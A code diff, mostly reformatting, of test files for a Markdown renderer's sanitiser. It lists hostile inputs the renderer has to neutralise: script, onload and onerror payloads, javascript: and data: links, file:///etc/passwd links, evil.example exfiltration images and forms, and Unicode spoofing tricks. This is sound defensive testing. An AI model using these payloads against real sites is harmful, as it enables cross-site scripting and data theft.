@@ -14,13 +14,17 @@ function inventory(html: string) {
   const tags = [...html.matchAll(/<([a-z0-9-]+)((?:\s+[^\s=>]+(?:="[^"]*")?)*)\s*\/?>/giu)];
   return {
     tags: new Set(tags.map(([, name]) => name!)),
-    attributes: new Set(tags.flatMap(([, , list]) => [...list!.matchAll(/\s([^\s=>]+)(?:="[^"]*")?/gu)].map(([, name]) => name!))),
+    attributes: new Set(
+      tags.flatMap(([, , list]) => [...list!.matchAll(/\s([^\s=>]+)(?:="[^"]*")?/gu)].map(([, name]) => name!)),
+    ),
     links: [...html.matchAll(/href="([^"]*)"/gu)].map(([, address]) => address!),
   };
 }
 
 const ALLOWED_TAGS = new Set(
-  "a blockquote br button code del div em h3 h4 h5 h6 hr li ol p path pre rect section span strong sub sup svg table tbody td th thead tr ul".split(" "),
+  "a blockquote br button code del div em h3 h4 h5 h6 hr li ol p path pre rect section span strong sub sup svg table tbody td th thead tr ul".split(
+    " ",
+  ),
 );
 const ALLOWED_ATTRIBUTES =
   /^(class|dir|href|title|rel|draggable|role|aria-[a-z]+|tabindex|type|translate|start|style|d|x|y|rx|ry|width|height|fill|stroke[a-z-]*|viewBox|xmlns)$/iu;
@@ -42,18 +46,33 @@ const hostile: readonly (readonly [string, string])[] = [
   ["svg onload", "<svg onload=alert(1)><circle/></svg>"],
   ["svg in text", "hello <svg/onload=alert(1)> there"],
   ["iframe", '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>'],
-  ["style", "<style>@import url(https://evil.example/a.css)</style><p style='background:url(https://evil.example)'>x</p>"],
-  ["form", '<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">x</button></form>'],
-  ["base, meta, link", '<base href="https://evil.example"><meta http-equiv=refresh content="0;url=https://evil.example"><link rel=stylesheet href=//evil.example>'],
+  [
+    "style",
+    "<style>@import url(https://evil.example/a.css)</style><p style='background:url(https://evil.example)'>x</p>",
+  ],
+  [
+    "form",
+    '<form action="https://evil.example"><input name=a><button formaction="javascript:alert(1)">x</button></form>',
+  ],
+  [
+    "base, meta, link",
+    '<base href="https://evil.example"><meta http-equiv=refresh content="0;url=https://evil.example"><link rel=stylesheet href=//evil.example>',
+  ],
   ["details ontoggle", "<details open ontoggle=alert(1)>x</details>"],
-  ["math", '<math><mtext><img src=x onerror=alert(1)></mtext></math>'],
+  ["math", "<math><mtext><img src=x onerror=alert(1)></mtext></math>"],
   ["javascript link", "[click](javascript:alert(1))"],
-  ["javascript link, mixed case and entities", "[click](JaVaScRiPt&colon;alert(1)) [b](java&#x0A;script:alert(1)) [c](  javascript:alert(1))"],
+  [
+    "javascript link, mixed case and entities",
+    "[click](JaVaScRiPt&colon;alert(1)) [b](java&#x0A;script:alert(1)) [c](  javascript:alert(1))",
+  ],
   ["javascript autolink", "<javascript:alert(1)>"],
   ["data link", "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"],
-  ["vbscript, file and app links", "[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](app://facet/index.html) [s](smb://evil.example/a) [v](vscode://x)"],
+  [
+    "vbscript, file and app links",
+    "[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](app://facet/index.html) [s](smb://evil.example/a) [v](vscode://x)",
+  ],
   ["relative links", "[x](/etc/passwd) [y](../a) [z](#frag) [e]() [p](//evil.example/x)"],
-  ["reference link", "[x][1]\n\n[1]: javascript:alert(1) \"t\""],
+  ["reference link", '[x][1]\n\n[1]: javascript:alert(1) "t"'],
   ["link with a user name", "[x](https://bank.example@evil.example/)"],
   ["link title that breaks out", '[x](https://a.example "\\"><img src=x onerror=alert(1)>")'],
   ["remote image", "![your chat](https://evil.example/p.png?q=secret)"],
@@ -66,7 +85,10 @@ const hostile: readonly (readonly [string, string])[] = [
   ["fence with markup inside", "```html\n<script>alert(1)</script>\n```"],
   ["table with markup", "| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |"],
   ["footnotes", "a[^1]\n\n[^1]: <script>alert(1)</script> [x](javascript:1)"],
-  ["right-to-left override and zero width", "safe\u202Egpj.exe\u202C \u200B\u200D[goo\u200Bgle](https://google.com\u202E.evil.example)"],
+  [
+    "right-to-left override and zero width",
+    "safe\u202Egpj.exe\u202C \u200B\u200D[goo\u200Bgle](https://google.com\u202E.evil.example)",
+  ],
   ["prototype names", "[__proto__](constructor) ```constructor\nx\n```\n\n```__proto__\nx\n```"],
   ["nul and lone surrogates", "a\u0000b \uD800 c \uDFFF"],
 ];
@@ -80,7 +102,8 @@ describe("hostile Markdown", () => {
   });
 
   it.each(hostile)("%s is harmless at each point of its arrival", (_name, text) => {
-    for (let length = 1; length < text.length; length += 3) expect(harmIn(render(text.slice(0, length), true))).toEqual([]);
+    for (let length = 1; length < text.length; length += 3)
+      expect(harmIn(render(text.slice(0, length), true))).toEqual([]);
   });
 
   it("shows HTML as the text that it is", () => {
@@ -122,17 +145,25 @@ describe("hostile Markdown", () => {
     ["footnotes", Array.from({ length: 1000 }, (_unused, index) => `[^${index}] `).join("") + "\n\n[^1]: x"],
   ];
 
-  it.each(costly)("%s: drawn in bounded time, without a crash", (_name, text) => {
-    const before = performance.now();
-    for (const growing of [false, true]) expect(harmIn(render(text, growing))).toEqual([]);
-    expect(performance.now() - before).toBeLessThan(MAX_MS);
-  }, 30_000);
+  it.each(costly)(
+    "%s: drawn in bounded time, without a crash",
+    (_name, text) => {
+      const before = performance.now();
+      for (const growing of [false, true]) expect(harmIn(render(text, growing))).toEqual([]);
+      expect(performance.now() - before).toBeLessThan(MAX_MS);
+    },
+    30_000,
+  );
 
-  it.each(costly)("%s, as long as is still parsed", (_name, text) => {
-    const before = performance.now();
-    expect(harmIn(render(text.slice(0, 15_900), true))).toEqual([]);
-    expect(performance.now() - before).toBeLessThan(MAX_MS);
-  }, 30_000);
+  it.each(costly)(
+    "%s, as long as is still parsed",
+    (_name, text) => {
+      const before = performance.now();
+      expect(harmIn(render(text.slice(0, 15_900), true))).toEqual([]);
+      expect(performance.now() - before).toBeLessThan(MAX_MS);
+    },
+    30_000,
+  );
 });
 
 describe("Markdown", () => {
@@ -141,10 +172,12 @@ describe("Markdown", () => {
   });
 
   it("draws lists, tasks, tables and code", () => {
-    const html = render("3. three\n4. four\n\n- [x] done\n- [ ] open\n\n| a | b |\n|--:|---|\n| 1 | x<br>y |\n\n`inline`\n\n```python\nprint(1)\n```");
+    const html = render(
+      "3. three\n4. four\n\n- [x] done\n- [ ] open\n\n| a | b |\n|--:|---|\n| 1 | x<br>y |\n\n`inline`\n\n```python\nprint(1)\n```",
+    );
     expect(html).toContain('<ol start="3">');
-    expect(html).toContain('Done:');
-    expect(html).toContain('Not done:');
+    expect(html).toContain("Done:");
+    expect(html).toContain("Not done:");
     expect(html).toContain("text-align:right");
     expect(html).toMatch(/x<br\/?>\s*y/u);
     expect(html).toContain("<code>inline</code>");
@@ -153,7 +186,9 @@ describe("Markdown", () => {
   });
 
   it("draws web and mail addresses as links", () => {
-    const { links } = inventory(render("<https://example.org/a?b=c> [m](mailto:a@example.org?attach=/etc/passwd) https://example.org"));
+    const { links } = inventory(
+      render("<https://example.org/a?b=c> [m](mailto:a@example.org?attach=/etc/passwd) https://example.org"),
+    );
     expect(links).toEqual(["https://example.org/a?b=c", "mailto:a@example.org", "https://example.org/"]);
   });
 
@@ -189,7 +224,10 @@ describe("link targets", () => {
 
 describe("blocks", () => {
   it("cuts a long bullet list between items, and loses nothing", () => {
-    const list = Array.from({ length: 200 }, (_unused, index) => `- item ${index} with some words\n  and a second line\n`).join("");
+    const list = Array.from(
+      { length: 200 },
+      (_unused, index) => `- item ${index} with some words\n  and a second line\n`,
+    ).join("");
     const pieces = splitLongList(list);
     expect(pieces.length).toBeGreaterThan(3);
     expect(pieces.join("")).toBe(list);
